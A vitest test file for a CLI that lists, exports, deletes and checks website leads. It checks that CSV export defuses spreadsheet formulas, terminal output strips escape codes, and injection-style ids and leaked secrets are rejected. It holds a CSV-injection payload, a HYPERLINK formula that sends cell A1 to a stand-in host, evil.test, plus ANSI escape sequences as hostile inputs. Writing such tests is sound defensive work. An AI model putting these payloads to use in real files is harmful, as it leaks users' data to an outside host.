// shingle leads: what it shows while serve runs and after, and what check says of good and bad backends.
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdirSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { plainEnvironment } from '../setup/environment';
import { keyOf } from '../setup/keys';
import { onSample, project, shingle } from '../setup/run';
import { contact, insertRequest, promotion, type Running, scratchFolder, startServe } from './running';

const scratch = scratchFolder('leads');
const folder = join(scratch.folder, 'leads');
let server: Running;

beforeAll(async () => {
  server = await startServe(['--out', inject('site'), '--leads', folder]);
});
afterAll(async () => {
  await server.end();
  scratch.clear();
});

const leads = (...args: string[]) => shingle(['leads', ...args, '--leads', folder]);

async function insert(table: string, row: Record<string, unknown>): Promise<void> {
  expect((await fetch(`${server.url}rest/v1/${table}`, insertRequest(server.key, row))).status).toBe(201);
}

const FORMULA = '=HYPERLINK("https://evil.test/?"&A1,"click")';

describe('shingle leads, one after the other', () => {
  it('says when there are none', () => {
    expect(leads('list')).toEqual({ status: 0, stdout: '', stderr: 'No leads yet.\n' });
    expect(leads('list', '--json')).toEqual({ status: 0, stdout: '[]\n', stderr: '' });
    expect(leads('export').stdout).toMatch(/^\ufeffkind,id,saved_at,name,email,.*\r\n$/);
  });

  it('lists what has come, oldest first', async () => {
    await insert('contact_submissions', contact({ name: FORMULA, emergency: true, message: 'First line\n\u001b[2Jsecond "line"' }));
    await insert('promotion_leads', promotion());
    const { status, stdout } = leads('list');
    expect(status).toBe(0);
    expect(stdout).toMatch(/contact {2}EMERGENCY {2}[0-9a-f-]{36}\n[\s\S]*promotion {2}[0-9a-f-]{36}\n {2}name: Ben Example/);
    expect(stdout).toContain('message: First line\n    \ufffd[2Jsecond "line"');
    expect(stdout).not.toContain('\u001b');
    expect(JSON.parse(leads('list', '--json').stdout)).toEqual([
      {
        kind: 'contact',
        id: expect.any(String),
        savedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT[\d:.]+Z$/),
        ...contact({ name: FORMULA, emergency: true, message: 'First line\n\u001b[2Jsecond "line"' }),
      },
      { kind: 'promotion', id: expect.any(String), savedAt: expect.any(String), ...promotion() },
    ]);
  });

  it('exports CSV that a spreadsheet does not run', () => {
    const { stdout } = leads('export');
    const [, first = ''] = stdout.split('\r\n');
    expect(first).toMatch(/^contact,[0-9a-f-]{36},[^,]+,"'=HYPERLINK\(""https:\/\/evil.test\/\?""&A1,""click""\)",ann@example.com,/);
    expect(stdout).toContain('"First line\n');
    expect(leads('list', '--csv').stdout).toBe(stdout);
    expect(stdout).toContain('\ufffd[2Jsecond');
    expect(stdout).not.toContain('\u001b');
    expect((JSON.parse(leads('export', '--json').stdout) as unknown[]).length).toBe(2);
  });

  it('deletes one, by its id', () => {
    const [, { id }] = JSON.parse(leads('list', '--json').stdout) as [unknown, { id: string }];
    expect(leads('delete', id)).toEqual({ status: 0, stdout: `Deleted: promotion ${id}\n`, stderr: '' });
    expect(leads('delete', id)).toMatchObject({ status: 1, stdout: '', stderr: expect.stringContaining(`there is no lead ${id}`) });
    expect(leads('delete', "' or true")).toMatchObject({ status: 1, stderr: expect.stringContaining('is not an id of a lead') });
    expect((JSON.parse(leads('list', '--json').stdout) as unknown[]).length).toBe(1);
  });

  it('watches: tells what comes, not what was there', async () => {
    const watch = spawn(process.execPath, [join(project, 'bin/shingle'), 'leads', 'watch', '--json', '--leads', folder], {
      env: plainEnvironment(),
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const exited = once(watch, 'exit');
    try {
      await once(createInterface({ input: watch.stderr }), 'line');
      const line = once(createInterface({ input: watch.stdout }), 'line');
      await insert('contact_submissions', contact({ name: 'Seen at once' }));
      expect(JSON.parse(String((await line)[0]))).toMatchObject({ kind: 'contact', name: 'Seen at once' });
    } finally {
      watch.kill('SIGTERM');
    }
    expect((await exited)[0]).toBe(0);
  });

  it('checks the running server, and stores nothing', () => {
    const before = leads('list', '--json').stdout;
    const run = leads('check');
    expect(run).toMatchObject({ status: 0, stderr: '' });
    expect(run.stdout).toContain('Good: the embedded store takes leads and protects them.');
    expect(leads('list', '--json').stdout).toBe(before);
  });

  it('does the same without a server', async () => {
    const before = leads('list', '--json').stdout;
    await server.end();
    expect(leads('list', '--json').stdout).toBe(before);
    expect(leads('check')).toMatchObject({ status: 0, stderr: '' });
    const both = await Promise.all([run(['leads', 'list', '--json', '--leads', folder]), run(['leads', 'list', '--json', '--leads', folder])]);
    expect(both).toEqual([before, before]);
    server = await startServe(['--out', inject('site'), '--leads', folder]);
  });

  it('does not make a folder by looking for it', () => {
    const nothing = join(scratch.folder, 'nothing');
    for (const command of ['list', 'export', 'watch', 'check']) {
      const run = shingle(['leads', command, '--leads', nothing]);
      expect([command, run.status]).toEqual([command, 1]);
      expect(run.stderr).toContain('no leads are kept here');
    }
    mkdirSync(nothing);
    expect(shingle(['leads', 'list', '--leads', nothing]).status).toBe(1);
  });
});

function run(args: string[]): Promise<string> {
  const child = spawn(process.execPath, [join(project, 'bin/shingle'), ...onSample(args)], { env: plainEnvironment(), stdio: ['ignore', 'pipe', 'inherit'] });
  let stdout = '';
  child.stdout.setEncoding('utf8').on('data', (text: string) => (stdout += text));
  return once(child, 'exit').then(() => stdout);
}

/** A backend that says one thing to each kind of request. */
async function answering(answer: (method: string, body: string) => [number, unknown]): Promise<{ url: string; close: () => void }> {
  const backend = createServer((request, response) => {
    let sent = '';
    request.setEncoding('utf8').on('data', (text: string) => (sent += text));
    request.on('end', () => {
      const [status, body] = answer(request.method ?? '', sent);
      const isPage = typeof body === 'string';
      response.writeHead(status, { 'content-type': isPage ? 'text/html' : 'application/json' }).end(isPage ? body : body === null ? '' : JSON.stringify(body));
    });
  });
  await once(backend.listen(0, '127.0.0.1'), 'listening');
  const { port } = backend.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, close: () => backend.close() };
}

describe('shingle leads check of a configured backend', () => {
  const checkOf = (env: Record<string, string>) =>
    new Promise<{ status: number | null; stdout: string; stderr: string }>((resolve) => {
      const child = spawn(process.execPath, [join(project, 'bin/shingle'), 'leads', 'check'], {
        env: { ...plainEnvironment(), ...env },
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      let [stdout, stderr] = ['', ''];
      child.stdout.setEncoding('utf8').on('data', (text: string) => (stdout += text));
      child.stderr.setEncoding('utf8').on('data', (text: string) => (stderr += text));
      child.once('exit', (status) => resolve({ status, stdout, stderr }));
    });

  it('is good where migrations and key are right', async () => {
    const checked = await checkOf({ SUPABASE_URL: new URL(server.url).origin, SUPABASE_ANON_KEY: server.key });
    expect(checked).toMatchObject({ status: 0, stderr: '' });
    expect(checked.stdout).toContain(`Good: Supabase at ${new URL(server.url).origin} takes`);
  });

  it.each([
    ['one setting alone', 1, { SUPABASE_URL: 'https://abc.supabase.co' }, 'SUPABASE_ANON_KEY: is not set'],
    [
      'a key of another project',
      1,
      { SUPABASE_URL: 'https://abc.supabase.co', SUPABASE_ANON_KEY: keyOf({ role: 'anon', ref: 'xyz' }) },
      'belongs to another project',
    ],
    ['a secret key', 2, { SUPABASE_URL: 'https://abc.supabase.co', SUPABASE_ANON_KEY: 'sb_secret_HiddenWord' }, 'is not the public key'],
    ['no address', 2, { SUPABASE_URL: 'HiddenWord', SUPABASE_ANON_KEY: 'sb_publishable_x' }, 'is not an address'],
    [
      'a connection string',
      2,
      { SUPABASE_URL: 'postgresql://postgres:HiddenWord@db.abc.supabase.co:5432/postgres', SUPABASE_ANON_KEY: 'sb_publishable_x' },
      'write https://abc.supabase.co',
    ],
    ['a password', 2, { SUPABASE_URL: 'https://admin:HiddenWord@abc.supabase.co', SUPABASE_ANON_KEY: 'sb_publishable_x' }, 'write https://abc.supabase.co'],
  ])('refuses %s, without a stack and without repeating it', async (_name, status, env, reason) => {
    const checked = await checkOf(env);
    expect(checked).toMatchObject({ status, stdout: '', stderr: expect.stringContaining(reason) });
    expect(checked.stderr).not.toMatch(/HiddenWord|fault in shingle|\n {4}at /);
  });

  it('is bad where the key is wrong or nobody answers', async () => {
    const wrong = await checkOf({ SUPABASE_URL: new URL(server.url).origin, SUPABASE_ANON_KEY: 'sb_publishable_other' });
    expect(wrong).toMatchObject({ status: 1, stdout: expect.stringContaining('it refuses the key') });
    const nobody = await checkOf({ SUPABASE_URL: 'http://127.0.0.1:1', SUPABASE_ANON_KEY: 'sb_publishable_other' });
    expect(nobody).toMatchObject({ status: 1, stdout: expect.stringContaining('it cannot be reached') });
  });

  it('takes a reached limit for what it is: no broken rule', async () => {
    const limited = async (answer: (method: string) => [number, unknown]) => {
      const backend = await answering(answer);
      const checked = await checkOf({ SUPABASE_URL: backend.url, SUPABASE_ANON_KEY: 'sb_publishable_x' });
      backend.close();
      return checked;
    };
    const refused = { code: '42501', message: 'no', details: null, hint: null };
    const ours = await limited((method) =>
      method === 'POST' ? [429, { message: 'Too many requests were sent from this address.', hint: null }] : [401, refused],
    );
    expect(ours).toMatchObject({ status: 1, stderr: '' });
    expect(ours.stdout.match(/^LATER /gm)).toHaveLength(6);
    expect(ours.stdout).not.toContain('WRONG');
    expect(ours.stdout).toMatch(/\nNot known yet: this address has reached the limit of leads .* Nothing was stored\.\n$/);
    const hosts = await limited(() => [429, '<!doctype html>']);
    expect(hosts).toMatchObject({ status: 1, stdout: expect.stringContaining('LATER The backend answers.') });
    const broken = await limited((method) => (method === 'POST' ? [429, null] : [200, null]));
    expect(broken).toMatchObject({ status: 1, stdout: expect.stringContaining('Not good') });
  });

  it('is bad where the migration of the limits is missing', async () => {
    const refused = { code: '42501', message: 'no', details: null, hint: null };
    const said = (code: string) => ({ code, message: 'no', details: null, hint: null });
    // As Postgres would: a row that is no lead fails its check; of eleven, the last fails NOT NULL.
    const backend = await answering((method, body) => {
      if (method !== 'POST' || body.includes('2000-01-01')) return [401, refused];
      return [400, body.includes('"shingle leads check"') ? said('23514') : said('23502')];
    });
    const checked = await checkOf({ SUPABASE_URL: backend.url, SUPABASE_ANON_KEY: 'sb_publishable_x' });
    backend.close();
    expect(checked).toMatchObject({ status: 1, stderr: '' });
    expect(checked.stdout.match(/^WRONG .*\n.*/gm)).toEqual([
      'WRONG contact_submissions takes a limited number of leads.\n      it took eleven in one request: the limit is missing. Apply the migrations: supabase db push.',
      'WRONG promotion_leads takes a limited number of leads.\n      it took eleven in one request: the limit is missing. Apply the migrations: supabase db push.',
    ]);
  });

  it('shows what a backend says without the codes in it', async () => {
    const backend = await answering(() => [400, { code: '22P02', message: 'red \u001b[31m\u009b2J alarm', details: null, hint: null }]);
    const checked = await checkOf({ SUPABASE_URL: backend.url, SUPABASE_ANON_KEY: 'sb_publishable_x' });
    backend.close();
    expect(checked.stdout).toContain('red \ufffd[31m\ufffd2J alarm');
  });

  // What a project without our migrations might say to each request.
  it.each([
    ['takes everything', () => [201, null], 'Not good'],
    ['has no tables', () => [404, { code: 'PGRST205', message: 'no table', details: null, hint: null }], 'supabase db push'],
    ['refuses everything', () => [401, { code: '42501', message: 'permission denied', details: null, hint: null }], 'visitors may not insert'],
    [
      'has no checks',
      (method: string) =>
        method === 'POST'
          ? [400, { code: '23502', message: 'null', details: null, hint: null }]
          : [401, { code: '42501', message: 'no', details: null, hint: null }],
      'the checks are missing',
    ],
    ['answers pages', () => [200, '<!doctype html>'], 'Not good'],
    ['answers errors in HTML', () => [540, '<!doctype html>paused'], 'no answer of a data API'],
  ] as [string, (method: string) => [number, unknown], string][])('is bad where a backend %s', async (_name, answer, reason) => {
    const backend = await answering(answer);
    const checked = await checkOf({ SUPABASE_URL: backend.url, SUPABASE_ANON_KEY: 'sb_publishable_x' });
    backend.close();
    expect(checked).toMatchObject({ status: 1, stderr: '' });
    expect(checked.stdout).toContain(reason);
  });
});
